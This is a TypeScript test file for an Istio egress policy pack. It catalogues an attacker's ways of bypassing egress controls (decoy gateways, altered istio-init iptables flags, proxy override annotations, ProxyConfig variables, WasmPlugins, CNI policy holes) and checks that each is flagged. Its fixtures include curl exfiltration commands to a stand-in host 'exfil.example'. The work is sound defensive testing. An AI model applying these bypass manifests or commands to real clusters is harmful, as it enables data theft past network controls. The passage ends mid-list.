/**
 * Issue 9, written as the attacker: for each vector class, the trick, and the same object without it passing.
 * Every object is placed in an application namespace ("apps") that has its default-deny, unless the vector is
 * about the gateway's namespace ("istio-egress", the default gateway namespace).
 */
import * as assert from "assert";
import { K8sObject } from "../sdk/schema/validate";
import { PolicyResource, Violation, fromManifests, runPolicies } from "istio-egress-guard/lib";
import { defaultDeny, workload } from "./fixtures/policy/workloads";

const UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
const PROXY = "docker.io/istio/proxyv2:1.29.0";
const ISTIO_INIT_ARGS = [
    "istio-iptables",
    "-p",
    "15001",
    "-z",
    "15006",
    "-u",
    "1337",
    "-m",
    "REDIRECT",
    "-i",
    "*",
    "-x",
    "",
    "-b",
    "*",
    "-d",
    "15090,15021,15020",
    "--log_output_level=default:info",
];
const INIT = {
    name: "istio-init",
    image: PROXY,
    args: ISTIO_INIT_ARGS,
    securityContext: { runAsUser: 0, capabilities: { add: ["NET_ADMIN", "NET_RAW"], drop: ["ALL"] } },
};
const SIDECAR = {
    name: "istio-proxy",
    image: PROXY,
    args: ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local"],
    securityContext: { runAsUser: 1337, runAsGroup: 1337 },
};
const GW = { istio: "egressgateway" };

async function check(objs: K8sObject[], config?: Record<string, unknown>, extra: PolicyResource[] = []): Promise<Violation[]> {
    return runPolicies([...fromManifests(objs), ...extra], { config });
}
const mandatory = (vs: Violation[]) => vs.filter((v) => v.enforcementLevel === "mandatory");
/** The distinct (policy, object) pairs with a mandatory finding (one object may have several from one policy). */
const brief = (vs: Violation[]) => [...new Set(mandatory(vs).map((v) => `${v.policy} ${v.resource.kind}/${v.resource.name}`))].sort();
/** Mandatory findings for objects in "apps" (which gets its default-deny). */
const inApps = async (objs: K8sObject[], config?: Record<string, unknown>) => brief(await check([...objs, defaultDeny("apps")], config));
const pod = (spec: Record<string, unknown>, meta: { labels?: Record<string, string>; annotations?: Record<string, string> } = {}, name = "p", ns = "apps") =>
    workload("Pod", name, ns, { ...meta, spec });
const np = (name: string, ns: string, spec: Record<string, unknown>, apiVersion = "networking.k8s.io/v1", kind = "NetworkPolicy"): K8sObject => ({
    apiVersion,
    kind,
    metadata: { name, namespace: ns },
    spec,
});
const cluster = (apiVersion: string, kind: string, name: string, spec: Record<string, unknown>): K8sObject => ({ apiVersion, kind, metadata: { name }, spec });

describe("policy pack v2: the attacker's tricks (issue 9)", function () {
    describe("the decoy chain: a gateway look-alike with its own internet NetworkPolicy in an application namespace", function () {
        const decoy = workload("Deployment", "egress-helper", "apps", {
            labels: { ...GW, "sidecar.istio.io/inject": "false" },
            spec: { containers: [{ name: "istio-proxy", image: "ghcr.io/someone/proxyv2:1.29", command: ["sh", "-c", "curl https://exfil.example"] }] },
        });
        const open = np("gw-egress", "apps", {
            podSelector: { matchLabels: GW },
            policyTypes: ["Egress"],
            egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }],
        });
        it("is reported on every link (it passed with zero findings before)", async function () {
            assert.deepStrictEqual(await inApps([decoy, open]), [
                "no-external-egress-networkpolicy NetworkPolicy/gw-egress",
                "no-gateway-impersonation Deployment/egress-helper",
                "sidecar-injection-required Deployment/egress-helper",
            ]);
        });
        it("and a decoy never changes another object's verdict: the namespace still needs its default-deny", async function () {
            const real = workload("Deployment", "egress-helper", "apps", { labels: GW, spec: { containers: [{ name: "istio-proxy", image: "auto" }] } });
            const vs = brief(await check([real, workload("Deployment", "web", "apps")]));
            assert.ok(
                vs.includes("namespace-default-deny-egress Deployment/egress-helper") || vs.includes("namespace-default-deny-egress Deployment/web"),
                vs.join("\n"),
            );
        });
        it("the same objects in the gateway namespace, shaped as the gateway, pass", async function () {
            const gwPod = workload("Deployment", "istio-egressgateway", "istio-egress", {
                labels: GW,
                spec: { containers: [{ name: "istio-proxy", image: "auto" }] },
            });
            const gwNp = np("gw-egress", "istio-egress", {
                podSelector: { matchLabels: GW },
                policyTypes: ["Egress"],
                egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0", except: ["10.0.0.0/8"] } }] }],
            });
            assert.deepStrictEqual(brief(await check([gwPod, gwNp])), []);
        });
    });

    describe("the component's own gateway label (istio-egress.io/gateway) is recognised only where it belongs", function () {
        const OWN = { "istio-egress.io/gateway": "istio-egress.egress-gateway" };
        const gwPod = (ns: string, labels: Record<string, string>) =>
            workload("Deployment", "egress-gateway", ns, {
                labels: { app: "egress-gateway", istio: "egress-gateway", ...labels },
                spec: { containers: [{ name: "istio-proxy", image: "auto" }] },
            });
        const internet = (ns: string, labels: Record<string, string>) =>
            np("egress-internet", ns, {
                podSelector: { matchLabels: labels },
                policyTypes: ["Egress"],
                egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0", except: ["10.0.0.0/8"] } }], ports: [{ protocol: "TCP", port: 443 }] }],
            });
        it("the component's gateway and its internet NetworkPolicy, in the gateway namespace, pass without configuring the pack", async function () {
            assert.deepStrictEqual(brief(await check([gwPod("istio-egress", OWN), internet("istio-egress", OWN)])), []);
        });
        it("the same label copied into an application namespace is an impostor, and its internet policy a hole", async function () {
            assert.deepStrictEqual(await inApps([gwPod("apps", OWN), internet("apps", OWN)]), [
                "no-external-egress-networkpolicy NetworkPolicy/egress-internet",
                "no-gateway-impersonation Deployment/egress-gateway",
            ]);
        });
        it("in the gateway namespace, a value naming another namespace's gateway is not this namespace's gateway", async function () {
            const other = { "istio-egress.io/gateway": "apps.egress-gateway" };
            assert.deepStrictEqual(brief(await check([internet("istio-egress", other)])), ["no-external-egress-networkpolicy NetworkPolicy/egress-internet"]);
        });
        it("a selector that leaves the label open (Exists) selects other pods too", async function () {
            const open = np("egress-internet", "istio-egress", {
                podSelector: { matchExpressions: [{ key: "istio-egress.io/gateway", operator: "Exists" }] },
                policyTypes: ["Egress"],
                egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }],
            });
            assert.deepStrictEqual(brief(await check([open])), ["no-external-egress-networkpolicy NetworkPolicy/egress-internet"]);
        });
        it("a Gateway selecting on the label is an egress Gateway: its servers must be ISTIO_MUTUAL", async function () {
            const gw = (mode: string): K8sObject => ({
                apiVersion: "networking.istio.io/v1",
                kind: "Gateway",
                metadata: { name: "egress", namespace: "istio-egress" },
                spec: { selector: OWN, servers: [{ port: { number: 443, name: "tls", protocol: "TLS" }, hosts: ["./api.example.com"], tls: { mode } }] },
            });
            assert.deepStrictEqual(brief(await check([gw("PASSTHROUGH")])), ["egress-gateway-istio-mutual Gateway/egress"]);
            assert.deepStrictEqual(brief(await check([gw("ISTIO_MUTUAL")])), []);
        });
    });

    describe("Istio's containers are exempt only in Istio's shape", function () {
        const as1337 = (c: Record<string, unknown>) =>
            pod({
                containers: [
                    { name: "app", image: "app" },
                    { ...SIDECAR, ...c },
                ],
            });
        it("passes the injected shape (native sidecar too)", async function () {
            assert.deepStrictEqual(await inApps([pod({ initContainers: [INIT], containers: [{ name: "app", image: "app" }, SIDECAR] })]), []);
            assert.deepStrictEqual(
                await inApps([pod({ initContainers: [INIT, { ...SIDECAR, restartPolicy: "Always" }], containers: [{ name: "app", image: "app" }] })]),
                [],
            );
            assert.deepStrictEqual(await inApps([as1337({ image: "auto", args: undefined })]), [], "image auto and no args: the injector fills them");
        });
        for (const [trick, c] of [
            ["a look-alike repository (wrong.registry/istio/proxyv2)", { image: "wrong.registry/istio/proxyv2:1.29.0" }],
            ["any */proxyv2", { image: "docker.io/mymalicious/proxyv2:1.29.0" }],
            ["a command (Istio's image running a shell)", { command: ["/bin/sh", "-c", "curl https://exfil.example"] }],
            ["args the injector never writes", { args: ["proxy", "sidecar", "--templateFile", "/tmp/evil.json"] }],
            ["a lifecycle hook that execs curl as 1337", { lifecycle: { postStart: { exec: { command: ["curl", "https://exfil.example"] } } } }],
            ["a PROXY_CONFIG that replaces the binary", { env: [{ name: "PROXY_CONFIG", value: '{"binaryPath": "/tmp/curl"}' }] }],
            ["envFrom", { envFrom: [{ configMapRef: { name: "x" } }] }],
        ] as const) {
            it(`flags istio-proxy as UID 1337 with ${trick}`, async function () {
                const vs = await inApps([as1337(c)]);
                assert.deepStrictEqual(vs, ["no-proxy-escape-privileges Pod/p"], trick);
            });
        }
        it("flags istio-proxy as an ephemeral container, and istio-init as a regular container", async function () {
            assert.deepStrictEqual(await inApps([pod({ containers: [{ name: "app", image: "app" }], ephemeralContainers: [SIDECAR] })]), [
                "no-proxy-escape-privileges Pod/p",
            ]);
            assert.deepStrictEqual(await inApps([pod({ containers: [{ name: "app", image: "app" }, INIT] })]), ["no-proxy-escape-privileges Pod/p"]);
        });
        for (const [trick, args] of [
            ["-x 0.0.0.0/0 (exclude every address)", ISTIO_INIT_ARGS.map((a, i, all) => (all[i - 1] === "-x" ? "0.0.0.0/0" : a))],
            ["-i 10.0.0.0/8 (capture only in-cluster)", ISTIO_INIT_ARGS.map((a, i, all) => (all[i - 1] === "-i" ? "10.0.0.0/8" : a))],
            ["-u 1000 (the app's UID never redirected)", ISTIO_INIT_ARGS.map((a, i, all) => (all[i - 1] === "-u" ? "1000" : a))],
            ["-o 443", [...ISTIO_INIT_ARGS, "-o", "443"]],
            ["--istio-local-outbound-ports-exclude=443", [...ISTIO_INIT_ARGS, "--istio-local-outbound-ports-exclude=443"]],
            ["-c eth1", [...ISTIO_INIT_ARGS, "-c", "eth1"]],
            ["a first arg that is not istio-iptables", ["sh", ...ISTIO_INIT_ARGS.slice(1)]],
        ] as const) {
            it(`flags istio-init with NET_ADMIN running istio-iptables ${trick}`, async function () {
                const vs = await inApps([pod({ initContainers: [{ ...INIT, args }], containers: [{ name: "app", image: "app" }] })]);
                assert.deepStrictEqual(vs, ["no-proxy-escape-privileges Pod/p"], trick);
            });
        }
        it("flags istio-init with an istio-iptables flag set through the environment", async function () {
            const vs = await inApps([
                pod({
                    initContainers: [{ ...INIT, env: [{ name: "ISTIO_SERVICE_EXCLUDE_CIDR", value: "0.0.0.0/0" }] }],
                    containers: [{ name: "app", image: "app" }],
                }),
            ]);
            assert.deepStrictEqual(vs, ["no-proxy-escape-privileges Pod/p"]);
        });
        it("trusts mirrors and FIPS builds the user lists in trustedProxyImages", async function () {
            const mirror = as1337({ image: "registry.corp.example/mirror/proxyv2:1.29.0" });
            assert.deepStrictEqual(await inApps([mirror]), ["no-proxy-escape-privileges Pod/p"]);
            const cfg = { "no-proxy-escape-privileges": { trustedProxyImages: ["registry.corp.example/mirror/proxyv2"] } };
            assert.deepStrictEqual(await inApps([mirror], cfg), []);
        });
    });

    describe("the proxy's identity wherever it enters", function () {
        it("flags fsGroup / supplementalGroups 1337 (the setgid route) unless privilege escalation is off everywhere", async function () {
            const app = { name: "app", image: "app" };
            assert.deepStrictEqual(await inApps([pod({ securityContext: { fsGroup: 1337 }, containers: [app] })]), ["no-proxy-escape-privileges Pod/p"]);
            assert.deepStrictEqual(await inApps([pod({ securityContext: { supplementalGroups: [1000, 1337] }, containers: [app] })]), [
                "no-proxy-escape-privileges Pod/p",
            ]);
            const noEsc = { ...app, securityContext: { allowPrivilegeEscalation: false } };
            assert.deepStrictEqual(await inApps([pod({ securityContext: { fsGroup: 1337 }, containers: [noEsc] })]), []);
            assert.deepStrictEqual(await inApps([pod({ securityContext: { fsGroup: 2000 }, containers: [app] })]), []);
        });
        it("flags runAsUser/runAsGroup 1337 on init and ephemeral containers too", async function () {
            assert.deepStrictEqual(
                await inApps([
                    pod({
                        containers: [{ name: "app", image: "app" }],
                        ephemeralContainers: [{ name: "dbg", image: "busybox", securityContext: { runAsUser: 1337 } }],
                    }),
                ]),
                ["no-proxy-escape-privileges Pod/p"],
            );
        });
        it("reads YAML 1.1 spellings as the API server's decoder would: 'yes', 'on', '02471'", async function () {
            for (const spec of [
                { hostNetwork: "yes" },
                { hostNetwork: "On" },
                { containers: [{ name: "a", image: "a", securityContext: { privileged: "on" } }] },
                { containers: [{ name: "a", image: "a", securityContext: { runAsUser: "02471" } }] },
                { securityContext: { runAsGroup: "0x539" } },
            ]) {
                assert.deepStrictEqual(await inApps([pod(spec)]), ["no-proxy-escape-privileges Pod/p"], JSON.stringify(spec));
            }
            for (const spec of [
                { hostNetwork: false },
                { hostNetwork: "off" },
                { containers: [{ name: "a", image: "a", securityContext: { runAsUser: "2471" } }] },
            ]) {
                assert.deepStrictEqual(await inApps([pod(spec)]), [], JSON.stringify(spec));
            }
        });
        for (const [ann, value] of [
            ["sidecar.istio.io/proxyImage", "ghcr.io/someone/proxyv2:1"],
            ["sidecar.istio.io/bootstrapOverride", "my-bootstrap"],
            ["sidecar.istio.io/discoveryAddress", "evil-istiod.apps.svc:15012"],
            ["proxy.istio.io/config", "binaryPath: /tmp/curl"],
            ["proxy.istio.io/config", '{"interceptionMode": "NONE"}'],
            ["proxy.istio.io/config", "proxyMetadata:\n  ISTIO_EXCLUDE_INTERFACES: eth0"],
            ["proxy.istio.io/config", "proxyMetadata:\n  ISTIO_SERVICE_EXCLUDE_CIDR: 0.0.0.0/0"],
            ["proxy.istio.io/config", "proxyMetadata:\n  SKIP_RULE_APPLY: 'true'"],
            ["proxy.istio.io/config", "proxyMetadata:\n  ISTIO_BOOTSTRAP_OVERRIDE: /etc/istio/custom-bootstrap/custom_bootstrap.json"],
            ["proxy.istio.io/config", "proxyMetadata: ISTIO_EXCLUDE_INTERFACES=eth0"],
            ["proxy.istio.io/overrides", '{"containers":[{"name":"istio-proxy","command":["sh"]}]}'],
            ["inject.istio.io/templates", "gateway"],
            ["istio.io/reroute-virtual-interfaces", "eth1"],
        ] as const) {
            it(`flags the override annotation ${ann}: ${value}`, async function () {
                assert.deepStrictEqual(await inApps([pod({ containers: [{ name: "app", image: "app" }] }, { annotations: { [ann]: value } })]), [
                    "no-traffic-capture-exclusions Pod/p",
                ]);
            });
        }
        it("passes harmless override annotations", async function () {
            for (const [ann, value] of [
                ["sidecar.istio.io/proxyImage", "docker.io/istio/proxyv2:1.29.0"],
                ["proxy.istio.io/config", "concurrency: 2"],
                ["proxy.istio.io/config", "proxyMetadata:\n  ISTIO_META_DNS_CAPTURE: 'true'\n  ISTIO_META_DNS_AUTO_ALLOCATE: 'true'"],
                ["proxy.istio.io/config", "proxyMetadata:\n  ISTIO_SERVICE_CIDR: '*'\n  ISTIO_META_REQUESTED_NETWORK_VIEW: net1"],
                ["inject.istio.io/templates", "sidecar"],
            ]) {
                assert.deepStrictEqual(await inApps([pod({ containers: [{ name: "app", image: "app" }] }, { annotations: { [ann]: value } })]), [], ann);
            }
        });
    });

    describe("ProxyConfig resources: proxyMetadata injected into pods the manifests do not show", function () {
        const proxyConfig = (ns: string, spec: Record<string, unknown>, apiVersion = "networking.istio.io/v1beta1"): K8sObject => ({
            apiVersion,
            kind: "ProxyConfig",
            metadata: { name: "pc", namespace: ns },
            spec,
        });
        const capture = async (objs: K8sObject[]) => (await inApps(objs)).filter((v) => v.startsWith("no-traffic-capture-exclusions"));
        it("flags a namespace's ProxyConfig whose variables exclude traffic from istio-iptables' capture; harmless ones pass", async function () {
            for (const env of [
                { ISTIO_EXCLUDE_INTERFACES: "eth0" },
                { ISTIO_LOCAL_OUTBOUND_PORTS_EXCLUDE: "443" },
                { ISTIO_SERVICE_CIDR: "10.0.0.0/8" },
                { PROXY_CONFIG: "{}" },
                { ISTIO_EXCLUDE_INTERFACES: 1 },
            ]) {
                assert.deepStrictEqual(
                    await capture([proxyConfig("apps", { environmentVariables: env })]),
                    ["no-traffic-capture-exclusions ProxyConfig/pc"],
                    JSON.stringify(env),
                );
            }
            for (const env of [{ ISTIO_META_DNS_CAPTURE: "true" }, { ISTIO_SERVICE_CIDR: "*" }, { CUSTOM_LOG_LEVEL: "debug" }]) {
                assert.deepStrictEqual(await capture([proxyConfig("apps", { environmentVariables: env })]), [], JSON.stringify(env));
            }
            assert.deepStrictEqual(await capture([proxyConfig("apps", { concurrency: 2 })]), []);
        });
        it("flags one in the root namespace (exempt from workload rules, but mesh-wide) and one whose variables are not a map", async function () {
            assert.deepStrictEqual(await capture([proxyConfig("istio-system", { environmentVariables: { ISTIO_EXCLUDE_INTERFACES: "eth0" } })]), [
                "no-traffic-capture-exclusions ProxyConfig/pc",
            ]);
            assert.deepStrictEqual(await capture([proxyConfig("apps", { environmentVariables: "ISTIO_EXCLUDE_INTERFACES=eth0" })]), [
                "no-traffic-capture-exclusions ProxyConfig/pc",
            ]);
            assert.deepStrictEqual(
                await capture([proxyConfig("apps", { environmentVariables: { ISTIO_EXCLUDE_INTERFACES: "eth0" } }, "example.com/v1")]),
                [],
                "not Istio's kind",
            );
        });
        it("flags the same variables in the istiod values' mesh-wide defaultConfig.proxyMetadata", async function () {
            const istiod = (proxyMetadata: Record<string, string>): PolicyResource => ({
                type: "kubernetes:helm.sh/v3:Release",
                name: "istiod",
                urn: "urn:pulumi:s::p::kubernetes:helm.sh/v3:Release::istiod",
                props: { chart: "istiod", namespace: "istio-system", values: { meshConfig: { defaultConfig: { proxyMetadata } } } },
            });
            const run = async (r: PolicyResource) =>
                brief(await check([defaultDeny("apps")], undefined, [r])).filter((v) => v.startsWith("no-traffic-capture-exclusions"));
            assert.deepStrictEqual(await run(istiod({ ISTIO_EXCLUDE_INTERFACES: "eth0" })), ["no-traffic-capture-exclusions Release/istiod"]);
            assert.deepStrictEqual(await run(istiod({ ISTIO_META_DNS_CAPTURE: "true" })), []);
        });
    });

    describe("the gateway is where it is", function () {
        const gwNp = (podSelector: unknown) =>
            np("gw", "istio-egress", { podSelector, policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] });
        it("flags a widened gateway selector in the gateway namespace; the exact one passes", async function () {
            assert.deepStrictEqual(brief(await check([gwNp({ matchLabels: GW })])), []);
            assert.deepStrictEqual(brief(await check([gwNp({ matchExpressions: [{ key: "istio", operator: "In", values: ["egressgateway"] }] })])), []);
            for (const sel of [
                {},
                { matchExpressions: [{ key: "istio", operator: "In", values: ["egressgateway", "app"] }] },
                { matchExpressions: [{ key: "istio", operator: "Exists" }] },
                { matchLabels: { app: "x" } },
            ]) {
                assert.deepStrictEqual(brief(await check([gwNp(sel)])), ["no-external-egress-networkpolicy NetworkPolicy/gw"], JSON.stringify(sel));
            }
        });
        it("flags a second workload carrying the gateway's labels (Istio's stock one in istio-system and ours)", async function () {
            const ours = workload("Deployment", "istio-egressgateway", "istio-egress", {
                labels: GW,
                spec: { containers: [{ name: "istio-proxy", image: "auto" }] },
            });
            const stock = workload("Deployment", "istio-egressgateway", "istio-system", {
                labels: GW,
                spec: { containers: [{ name: "istio-proxy", image: "auto" }] },
            });
            assert.deepStrictEqual(brief(await check([ours])), []);
            const vs = mandatory(await check([ours, stock])).filter((v) => v.policy === "egress-gateway-control");
            assert.deepStrictEqual(vs.map((v) => v.resource.namespace).sort(), ["istio-egress", "istio-system"]);
            assert.match(vs[0].message, /and so does Deployment istio-(system|egress)\/istio-egressgateway/);
        });
        const release = (values: Record<string, unknown>): PolicyResource => ({
            type: "kubernetes:helm.sh/v3:Release",
            name: "egw",
            urn: "urn:pulumi:s::p::kubernetes:helm.sh/v3:Release::egw",
            props: { chart: "gateway", name: "istio-egressgateway", namespace: "istio-egress", values: { service: { type: "ClusterIP" }, ...values } },
        });
        it("flags gateway release values that void the lock-down; the plain release passes", async function () {
            assert.deepStrictEqual(brief(await runPolicies([release({})])), []);
            for (const values of [
                { global: { networkPolicy: { enabled: true } } },
                { service: { type: "ClusterIP", externalIPs: ["203.0.113.9"] } },
                { additionalContainers: [{ name: "curl", image: "curl" }] },
                { podAnnotations: { "sidecar.istio.io/bootstrapOverride": "x" } },
            ]) {
                assert.deepStrictEqual(
                    brief(await runPolicies([release(values)])),
                    ["egress-gateway-cluster-ip Release/istio-egressgateway"],
                    JSON.stringify(values),
                );
            }
        });
    });

    describe("the gateway's control switched off", function () {
        const obj = (apiVersion: string, kind: string, name: string, ns: string, spec: unknown): K8sObject => ({
            apiVersion,
            kind,
            metadata: { name, namespace: ns },
            spec,
        });
        const ap = (ns: string, spec: unknown) => obj("security.istio.io/v1", "AuthorizationPolicy", "ap", ns, spec);
        const cases: [string, K8sObject, K8sObject][] = [
            [
                "an AuthorizationPolicy ALLOWing any source at the gateway",
                ap("istio-egress", { selector: { matchLabels: GW }, action: "ALLOW", rules: [{}] }),
                ap("istio-egress", { selector: { matchLabels: GW }, action: "ALLOW", rules: [{ from: [{ source: { namespaces: ["apps"] } }] }] }),
            ],
            [
                "an AuthorizationPolicy ALLOWing everything from the root namespace",
                ap("istio-system", { rules: [{ to: [{ operation: { ports: ["443"] } }] }] }),
                ap("istio-system", { action: "DENY", rules: [{}] }),
            ],
            [
                "a PERMISSIVE PeerAuthentication in the gateway namespace",
                obj("security.istio.io/v1", "PeerAuthentication", "pa", "istio-egress", { mtls: { mode: "PERMISSIVE" } }),
                obj("security.istio.io/v1", "PeerAuthentication", "pa", "istio-egress", { mtls: { mode: "STRICT" } }),
            ],
            [
                "a mesh-wide DISABLE PeerAuthentication",
                obj("security.istio.io/v1", "PeerAuthentication", "pa", "istio-system", { mtls: { mode: "DISABLE" } }),
                obj("security.istio.io/v1", "PeerAuthentication", "pa", "apps", { mtls: { mode: "DISABLE" } }),
            ],
            [
                "an EnvoyFilter on the gateway",
                obj("networking.istio.io/v1alpha3", "EnvoyFilter", "ef", "istio-egress", { workloadSelector: { labels: GW }, configPatches: [] }),
                obj("networking.istio.io/v1alpha3", "EnvoyFilter", "ef", "apps", { workloadSelector: { labels: { app: "web" } }, configPatches: [] }),
            ],
            [
                "a root-namespace EnvoyFilter without a selector",
                obj("networking.istio.io/v1alpha3", "EnvoyFilter", "ef", "istio-system", { configPatches: [] }),
                obj("networking.istio.io/v1alpha3", "EnvoyFilter", "ef", "istio-system", { workloadSelector: { labels: { app: "web" } }, configPatches: [] }),
            ],
            [
                "a WasmPlugin selecting the gateway's pods",
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "istio-egress", { selector: { matchLabels: GW }, url: "oci://example/plugin" }),
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "apps", { selector: { matchLabels: { app: "web" } }, url: "oci://example/plugin" }),
            ],
            [
                "a root-namespace WasmPlugin without a selector (every proxy, the gateway's too)",
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "istio-system", { url: "oci://example/plugin" }),
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "istio-system", {
                    selector: { matchLabels: { app: "web" } },
                    url: "oci://example/plugin",
                }),
            ],
            [
                "a root-namespace WasmPlugin whose selector names the gateway's labels (it applies in every namespace)",
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "istio-system", { selector: { matchLabels: GW }, url: "oci://example/plugin" }),
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "apps", { selector: { matchLabels: GW }, url: "oci://example/plugin" }),
            ],
            [
                "a WasmPlugin attached to the egress gateway by its deprecated singular targetRef",
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "istio-egress", {
                    targetRef: { kind: "Service", name: "istio-egressgateway" },
                    url: "oci://example/plugin",
                }),
                obj("extensions.istio.io/v1alpha1", "WasmPlugin", "wp", "apps", { targetRef: { kind: "Service", name: "web" }, url: "oci://example/plugin" }),
            ],
            [
                "a Lua TrafficExtension on every workload of the gateway namespace",
                obj("extensions.istio.io/v1alpha1", "TrafficExtension", "te", "istio-egress", { lua: { inlineCode: "function envoy_on_request(h) end" } }),
                obj("extensions.istio.io/v1alpha1", "TrafficExtension", "te", "apps", { lua: { inlineCode: "function envoy_on_request(h) end" } }),
            ],
            [
                "a TrafficExtension whose selector is not a label map (read as no selector: every workload)",
                obj("extensions.istio.io/v1alpha1", "TrafficExtension", "te", "istio-egress", { selector: "istio=egressgateway", lua: { inlineCode: "x" } }),
                obj("extensions.istio.io/v1alpha1", "TrafficExtension", "te", "istio-egress", {
                    selector: { matchLabels: { app: "web" } },
                    lua: { inlineCode: "x" },
                }),
            ],
            [
                "a ProxyConfig giving the gateway namespace's proxies another CA",
                obj("networking.istio.io/v1beta1", "ProxyConfig", "pc", "istio-egress", { environmentVariables: { CA_ADDR: "evil-ca.apps.svc:15012" } }),
                obj("networking.istio.io/v1beta1", "ProxyConfig", "pc", "istio-egress", { environmentVariables: { MINIMUM_DRAIN_DURATION: "30s" } }),
            ],
            [
                "a root-namespace ProxyConfig without a selector setting proxy metadata mesh-wide",
                obj("networking.istio.io/v1beta1", "ProxyConfig", "pc", "istio-system", { environmentVariables: { ISTIO_META_CLUSTER_ID: "other" } }),
                obj("networking.istio.io/v1beta1", "ProxyConfig", "pc", "istio-system", {
                    selector: { matchLabels: GW },
                    environmentVariables: { ISTIO_META_CLUSTER_ID: "other" },
                }),
            ],
            [
                "a VirtualService from an application namespace bound to the egress Gateway",
                obj("networking.istio.io/v1", "VirtualService", "vs", "apps", {
                    hosts: ["x.example.com"],
                    gateways: ["istio-egress/egress"],
                    tls: [{ match: [{ gateways: ["istio-egress/egress"], sniHosts: ["x.example.com"] }], route: [{ destination: { host: "evil.example" } }] }],
                }),
                obj("networking.istio.io/v1", "VirtualService", "vs", "istio-egress", {
                    hosts: ["x.example.com"],
                    gateways: ["egress"],
                    tls: [{ match: [{ gateways: ["egress"], sniHosts: ["x.example.com"] }], route: [{ destination: { host: "x.example.com" } }] }],
                }),
            ],
        ];
        for (const [trick, bad, good] of cases) {
            it(`flags ${trick}; the same without the trick passes`, async function () {
                const vs = await check([bad, defaultDeny("apps")]);
                assert.deepStrictEqual(
                    brief(vs).filter((v) => v.startsWith("egress-gateway-control")),
                    [`egress-gateway-control ${bad.kind}/${bad.metadata.name}`],
                    trick,
                );
                assert.deepStrictEqual(
                    brief(await check([good, defaultDeny("apps")])).filter((v) => v.startsWith("egress-gateway-control")),
                    [],
                    trick,
                );
            });
        }
    });

    describe("external hosts whatever they are called", function () {
        const se = (spec: Record<string, unknown>): K8sObject => ({
            apiVersion: "networking.istio.io/v1",
            kind: "ServiceEntry",
            metadata: { name: "se", namespace: "apps" },
            spec: { hosts: ["db.apps.internal"], ports: [{ number: 443, name: "tls", protocol: "TLS" }], ...spec },
        });
        const routed = (vs: Violation[]) => brief(vs).filter((v) => v.startsWith("service-entry-via-egress-gateway"));
        it("a MESH_INTERNAL entry whose endpoints are public is external; loopback and in-cluster endpoints are not", async function () {
            assert.deepStrictEqual(routed(await check([se({ location: "MESH_INTERNAL", resolution: "STATIC", endpoints: [{ address: "198.51.100.7" }] })])), [
                "service-entry-via-egress-gateway ServiceEntry/se",
            ]);
            assert.deepStrictEqual(routed(await check([se({ location: "MESH_INTERNAL", resolution: "DNS", endpoints: [{ address: "api.example.com" }] })])), [
                "service-entry-via-egress-gateway ServiceEntry/se",
            ]);
            assert.deepStrictEqual(routed(await check([se({ location: "MESH_INTERNAL", resolution: "DNS", hosts: ["api.example.com"] })])), [
                "service-entry-via-egress-gateway ServiceEntry/se",
            ]);
            for (const address of ["127.0.0.1", "10.1.2.3", "db.apps.svc.cluster.local"]) {
                assert.deepStrictEqual(routed(await check([se({ resolution: "STATIC", endpoints: [{ address }] })])), [], address);
            }
            // An address that is not a string (the CRD refuses it) leads outside: fail closed, not "no address".
            assert.deepStrictEqual(routed(await check([se({ location: "MESH_INTERNAL", resolution: "STATIC", endpoints: [{ address: 3325256711 }] })])), [
                "service-entry-via-egress-gateway ServiceEntry/se",
            ]);
        });
        it("an ExternalName Service pointing outside is an unrouted external host; one pointing in-cluster is not", async function () {
            const svc = (externalName: string): K8sObject => ({
                apiVersion: "v1",
                kind: "Service",
                metadata: { name: "api", namespace: "apps" },
                spec: { type: "ExternalName", externalName },
            });
            assert.deepStrictEqual(routed(await check([svc("api.example.com")])), ["service-entry-via-egress-gateway Service/api"]);
            assert.deepStrictEqual(routed(await check([svc("api.other.svc.cluster.local")])), []);
        });
        it("addresses covering public ranges count like '*'", async function () {
            const open = brief(await check([se({ hosts: ["x.example.com"], addresses: ["0.0.0.0/1"], resolution: "NONE" })])).filter((v) =>
                v.startsWith("no-open-service-entry"),
            );
            assert.deepStrictEqual(open, ["no-open-service-entry ServiceEntry/se"]);
            const narrow = brief(await check([se({ hosts: ["x.example.com"], addresses: ["198.51.100.7/32"], resolution: "NONE" })])).filter((v) =>
                v.startsWith("no-open-service-entry"),
            );
            assert.deepStrictEqual(narrow, []);
        });
    });

    describe("the CNI's own policies", function () {
        const P = "no-external-egress-networkpolicy";
        const cnp = (spec: Record<string, unknown>, ns = "apps") => np("c", ns, spec, "cilium.io/v2", "CiliumNetworkPolicy");
        const calico = (spec: Record<string, unknown>, ns = "apps") => np("c", ns, spec, "projectcalico.org/v3", "NetworkPolicy");
        const holes = async (o: K8sObject) => brief(await check([o])).filter((v) => v.startsWith(P));
        const cases: [string, K8sObject, K8sObject][] = [
            [
                "Cilium toEntities world",
                cnp({ endpointSelector: {}, egress: [{ toEntities: ["world"] }] }),
                cnp({ endpointSelector: {}, egress: [{ toEntities: ["cluster"] }] }),
            ],
            [
                "Cilium toCIDR outside the cluster",
                cnp({ endpointSelector: {}, egress: [{ toCIDR: ["8.8.8.8/32"] }] }),
                cnp({ endpointSelector: {}, egress: [{ toCIDR: ["10.0.0.0/8"] }] }),
            ],
            [
                "Cilium toCIDRSet with an except that leaves the internet",
                cnp({ endpointSelector: {}, egress: [{ toCIDRSet: [{ cidr: "0.0.0.0/0", except: ["10.0.0.0/8"] }] }] }),
                cnp({ endpointSelector: {}, egress: [{ toCIDRSet: [{ cidr: "10.0.0.0/8", except: ["10.1.0.0/16"] }] }] }),
            ],
            [
                "Cilium toFQDNs for application pods",
